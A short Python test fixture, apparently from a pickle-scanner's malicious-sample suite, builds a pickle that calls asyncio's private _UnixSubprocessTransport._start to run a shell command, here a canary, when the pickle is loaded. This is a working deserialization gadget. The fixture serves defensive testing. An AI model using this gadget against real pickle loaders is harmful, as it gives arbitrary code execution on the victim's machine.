"""Asyncio's transport starts a shell without an event loop."""

from __future__ import annotations

from malicious_samples.recipes import make_object, shell
from tests.builder import Name, Pickle


def build(canary: str) -> bytes:
    module, name = "asyncio.unix_events", "_UnixSubprocessTransport"
    transport = make_object(Name(module, name))
    command = (shell(canary), True, None, None, None, 0)
    return Pickle().call(Name(module, f"{name}._start"), transport, *command).finish()
